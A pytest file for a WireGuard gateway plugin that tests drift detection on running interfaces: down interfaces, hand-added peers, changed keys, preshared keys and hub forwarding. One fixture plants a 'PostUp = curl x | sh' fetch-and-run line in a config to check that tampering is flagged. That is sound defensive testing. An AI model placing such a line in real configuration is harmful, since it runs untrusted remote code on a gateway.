"""What refresh makes of a gateway's running interface: the cases as data, one pure function."""

from __future__ import annotations

from dataclasses import replace

import pytest

from skyplan.sdk import ResourceView
from skyplan_wireguard import conf, gateways, keys
from skyplan_wireguard.remote import Forwarding, LiveInterface, LivePeer

A_PRIVATE, B_PRIVATE, C_PRIVATE = (keys.generate() for _ in range(3))
A_KEY, B_KEY, C_KEY = (keys.public_key(k) for k in (A_PRIVATE, B_PRIVATE, C_PRIVATE))
STRANGER = keys.public_key(keys.generate())

CLUSTER = ResourceView(
    "cluster",
    "a",
    {"endpoint": "192.0.2.1:51820", "subnets": [], "interface": "wgsky0", "listen_port": 51820, "gateway": "gw-a"},
    {"address": "100.96.0.1", "public_key": A_KEY},
)
PEERS = (
    conf.PeerConf("b", ("ab",), B_KEY, "192.0.2.2:51820", ("100.96.0.2/32", "10.2.0.0/16"), 25),
    conf.PeerConf("c", ("ac",), C_KEY, "192.0.2.3:51820", ("100.96.0.3/32",), 25),
)
EXPECTED = conf.ClusterConf("a", "100.96.0.1/32", 51820, None, PEERS)


def live_peer(peer: conf.PeerConf) -> LivePeer:
    return LivePeer(peer.public_key, peer.endpoint, tuple(sorted(peer.allowed_ips)), 1_700_000_000, peer.persistent_keepalive, False)


AS_APPLIED = LiveInterface(
    key_public=A_KEY,
    key_problem=None,
    config_text=conf.render(EXPECTED, None),
    config_key_public=A_KEY,
    up=True,
    public_key=A_KEY,
    listen_port=51820,
    peers={p.public_key: live_peer(p) for p in PEERS},
    addresses=("100.96.0.1/32",),
    mtu=1420,
    routes=("10.2.0.0/16", "100.96.0.2/32", "100.96.0.3/32"),
)


def without_peer(live: LiveInterface, key: str) -> LiveInterface:
    return replace(live, peers={k: v for k, v in live.peers.items() if k != key})


# (what the gateway shows, pending work) -> what the reading must say
CASES = {
    "as applied": (AS_APPLIED, None, {}),
    "interface down": (replace(AS_APPLIED, up=False, peers={}, routes=(), addresses=()), None, {"running": ("up", "down")}),
    "config file deleted": (replace(AS_APPLIED, config_text=None, config_key_public=None), None, {"config_file": ("present", "missing")}),
    "a directive added to the file": (
        replace(AS_APPLIED, config_text=AS_APPLIED.config_text.replace("[Interface]\n", "[Interface]\nPostUp = curl x | sh\n")),
        None,
        {"config_file": ("other_directives", {"Interface": ["PostUp at line 3"]})},
    ),
    "a route removed by hand": (
        replace(AS_APPLIED, routes=("100.96.0.2/32", "100.96.0.3/32")),
        None,
        {"running": ("routes", ["100.96.0.2/32", "100.96.0.3/32"])},
    ),
    "a peer added by hand": (
        replace(AS_APPLIED, peers={**AS_APPLIED.peers, STRANGER: LivePeer(STRANGER, None, ("0.0.0.0/0",), 0, 0, False)}),
        None,
        {"running": ("unmanaged_peers", [STRANGER])},
    ),
    "listen port changed by hand": (replace(AS_APPLIED, listen_port=40000), None, {"running": ("listen_port", 40000)}),
    "address removed by hand": (replace(AS_APPLIED, addresses=()), None, {"running": ("addresses", [])}),
    "file holds another private key": (replace(AS_APPLIED, config_key_public=STRANGER), None, {"config_file_key": ("the key file's", "another key")}),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_cluster_reading(case):
    live, pending, expect = CASES[case]
    reading, _, error = gateways.cluster_reading(CLUSTER, EXPECTED, live, pending)
    assert error is None
    if not expect:
        assert reading is None
        return
    assert reading is not None and not reading.replace and not reading.conflict
    assert sorted(k for k in reading.expected if reading.expected[k] != reading.found.get(k)) == sorted(expect)
    for key, (field, value) in expect.items():
        found = reading.found[key]
        if isinstance(found, dict):
            assert found[field] == value, (key, found)
        else:
            assert (reading.expected[key], found) == (field, value)
    assert A_PRIVATE not in repr(reading)


def test_an_interface_that_is_down_is_the_clusters_drift_not_its_links():
    _, peers, _ = gateways.cluster_reading(CLUSTER, EXPECTED, replace(AS_APPLIED, up=False, peers={}), None)
    assert peers is None


def test_a_peer_removed_by_hand_is_the_links_drift():
    reading, peers, _ = gateways.cluster_reading(CLUSTER, EXPECTED, without_peer(AS_APPLIED, C_KEY), None)
    assert reading is None  # the interface itself is as applied (its routes stay)
    assert peers is not None and C_KEY not in peers and peers[B_KEY]["endpoint"] == "192.0.2.2:51820"


def test_a_roaming_peer_is_not_drift():
    roamed = {**AS_APPLIED.peers, B_KEY: replace(AS_APPLIED.peers[B_KEY], endpoint="198.51.100.9:40001")}
    assert gateways.cluster_reading(CLUSTER, EXPECTED, replace(AS_APPLIED, peers=roamed), None) == (None, None, None)


def test_a_missing_key_file_is_a_loud_replace():
    reading, peers, error = gateways.cluster_reading(CLUSTER, EXPECTED, replace(AS_APPLIED, key_public=None), None)
    assert reading.replace and "/etc/wireguard/wgsky0.key on gateway gw-a is missing" in reading.reason
    assert peers is None and error is None


def test_a_garbled_key_file_stops_the_plan_and_quotes_nothing_of_it():
    _, _, error = gateways.cluster_reading(CLUSTER, EXPECTED, replace(AS_APPLIED, key_public=None, key_problem="does not hold a WireGuard private key"), None)
    assert error and "gateway gw-a" in error and "/etc/wireguard/wgsky0.key" in error


def test_a_folder_where_the_config_goes_stops_the_plan():
    seen = replace(AS_APPLIED, config_text=None, config_key_public=None, config_problem="/etc/wireguard/wgsky0.conf is not a file")
    reading, peers, error = gateways.cluster_reading(CLUSTER, EXPECTED, seen, None)
    assert reading is None and peers is None
    assert error and "gateway gw-a" in error and "/etc/wireguard/wgsky0.conf is not a file" in error


def test_a_key_replaced_on_the_host_stops_the_plan_unless_a_replace_was_under_way():
    other = replace(AS_APPLIED, key_public=STRANGER, public_key=STRANGER, config_key_public=STRANGER)
    reading, _, _ = gateways.cluster_reading(CLUSTER, EXPECTED, other, None)
    assert reading.conflict and "--replace cluster.a" in reading.reason and STRANGER in reading.reason
    # An interrupted replace made that key: the retry keeps it rather than making another.
    assert gateways.cluster_reading(CLUSTER, EXPECTED, other, "replace") == (None, None, None)


# -- preshared keys: compared by presence, on the running interface and in the file ------------------------

# b's peering wants a preshared key (its value is not at hand on refresh: the stand-in).
WITH_PSK = replace(EXPECTED, peers=(PEERS[0]._replace(preshared_key=conf.PSK_PLACEHOLDER), PEERS[1]))
HIDDEN_FILE = gateways.masked_render(WITH_PSK)  # what inspect shows of the file as written
PSK_APPLIED = replace(
    AS_APPLIED,
    config_text=HIDDEN_FILE,
    peers={**AS_APPLIED.peers, B_KEY: replace(AS_APPLIED.peers[B_KEY], has_preshared_key=True)},
)
NO_LIVE_PSK = replace(PSK_APPLIED, peers=AS_APPLIED.peers)
NO_FILE_PSK = replace(PSK_APPLIED, config_text=AS_APPLIED.config_text)

# (expected conf, what the gateway shows) -> what b's peer entry says of its key (None: no drift)
PSK_CASES = {
    "wanted and there": (WITH_PSK, PSK_APPLIED, None),
    "wanted, gone from the running interface": (WITH_PSK, NO_LIVE_PSK, "not on the running interface"),
    "wanted, gone from the file": (WITH_PSK, NO_FILE_PSK, "not in the file"),
    "wanted, gone from both": (WITH_PSK, replace(NO_LIVE_PSK, config_text=AS_APPLIED.config_text), "absent"),
    "not wanted, added on the running interface": (EXPECTED, replace(AS_APPLIED, peers=PSK_APPLIED.peers), "not in the file"),
    "not wanted, added to the file and the interface": (EXPECTED, PSK_APPLIED, "present"),
}


@pytest.mark.parametrize("case", sorted(PSK_CASES))
def test_preshared_key_presence(case):
    expected_conf, live, says = PSK_CASES[case]
    reading, peers, error = gateways.cluster_reading(CLUSTER, expected_conf, live, None)
    assert error is None
    if says is None:
        assert (reading, peers) == (None, None)
        return
    assert peers is not None
    assert peers[B_KEY].get("preshared_key", "absent") == says
    assert peers[C_KEY] == PEERS[1].comparable()  # c's peering wants none and has none: as expected
    # A file that differs only in a peer's key is the link's drift, not the interface's.
    assert reading is None or set(reading.expected) == {"config_file"}
    assert conf.PSK_PLACEHOLDER not in repr((reading, peers))


def test_the_file_as_the_host_shows_it_hides_every_preshared_key_whatever_its_value():
    known = replace(WITH_PSK, peers=(WITH_PSK.peers[0]._replace(preshared_key=keys.generate()), PEERS[1]))
    assert gateways.masked_render(known) == gateways.masked_render(WITH_PSK) == HIDDEN_FILE
    assert HIDDEN_FILE.count("PresharedKey = (hidden)\n") == 1 and conf.PSK_PLACEHOLDER not in HIDDEN_FILE
    assert gateways.masked_render(EXPECTED) == conf.render(EXPECTED, None)


# -- a transit hub forwards; a NAT'd peer has no endpoint ------------------------------------------------------

HUB = replace(EXPECTED, forward=True)
HUB_APPLIED = replace(AS_APPLIED, config_text=conf.render(HUB, None), forwarding=Forwarding(True, False))
IPV6_HUB = replace(HUB, peers=(PEERS[0]._replace(allowed_ips=("100.96.0.2/32", "fd00:2::/64")), PEERS[1]))

# (expected conf, what the gateway shows) -> the interface's drift: {key: (field, found)}
FORWARD_CASES = {
    "a hub that forwards": (HUB, HUB_APPLIED, {}),
    "a hub whose forwarding was turned off": (HUB, replace(HUB_APPLIED, forwarding=Forwarding(False, False)), {"running": ("forwarding", {"ipv4": "off"})}),
    "a hub whose switch cannot be read": (HUB, replace(HUB_APPLIED, forwarding=Forwarding()), {"running": ("forwarding", {"ipv4": "unknown"})}),
    "a hub that routes IPv6 forwards it too": (
        IPV6_HUB,
        replace(HUB_APPLIED, config_text=conf.render(IPV6_HUB, None), routes=("10.2.0.0/16", "100.96.0.2/32", "100.96.0.3/32", "fd00:2::/64"),
                peers={**AS_APPLIED.peers, B_KEY: replace(AS_APPLIED.peers[B_KEY], allowed_ips=("100.96.0.2/32", "fd00:2::/64"))}),
        {"running": ("forwarding", {"ipv4": "on", "ipv6": "off"})},
    ),
    "a host that forwards for others is no drift": (EXPECTED, replace(AS_APPLIED, forwarding=Forwarding(True, True)), {}),
    "a hub's PostUp line removed from the file": (HUB, replace(HUB_APPLIED, config_text=AS_APPLIED.config_text), {"config_file": ("interface", None)}),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(FORWARD_CASES))
def test_transit_hub_forwarding(case):
    expected_conf, live, expect = FORWARD_CASES[case]
    reading, peers, error = gateways.cluster_reading(CLUSTER, expected_conf, live, None)
    assert error is None and peers is None
    if not expect:
        assert reading is None
        return
    assert reading is not None and sorted(k for k in reading.expected if reading.expected[k] != reading.found.get(k)) == sorted(expect)
    for key, (field, value) in expect.items():
        if key == "config_file":
            assert "forward" in reading.expected[key][field] and "forward" not in reading.found[key][field]
        else:
            assert reading.found[key][field] == value


def test_forwarded_versions_follow_the_hubs_postup_line():
    assert gateways.forward_versions(EXPECTED) == frozenset()
    assert gateways.forward_versions(HUB) == {4}
    assert gateways.forward_versions(IPV6_HUB) == {4, 6}


def test_a_nat_d_peer_has_no_endpoint_and_wherever_it_dials_from_is_no_drift():
    behind_nat = replace(EXPECTED, peers=(PEERS[0]._replace(endpoint=None), PEERS[1]))
    dialled_in = {**AS_APPLIED.peers, B_KEY: replace(AS_APPLIED.peers[B_KEY], endpoint="198.51.100.7:40123")}
    live = replace(AS_APPLIED, config_text=conf.render(behind_nat, None), peers=dialled_in)
    assert "Endpoint = 192.0.2.2" not in live.config_text
    assert gateways.cluster_reading(CLUSTER, behind_nat, live, None) == (None, None, None)
    # Not yet dialled in: no endpoint at all, as expected too.
    waiting = replace(live, peers={**dialled_in, B_KEY: replace(dialled_in[B_KEY], endpoint=None)})
    assert gateways.cluster_reading(CLUSTER, behind_nat, waiting, None) == (None, None, None)
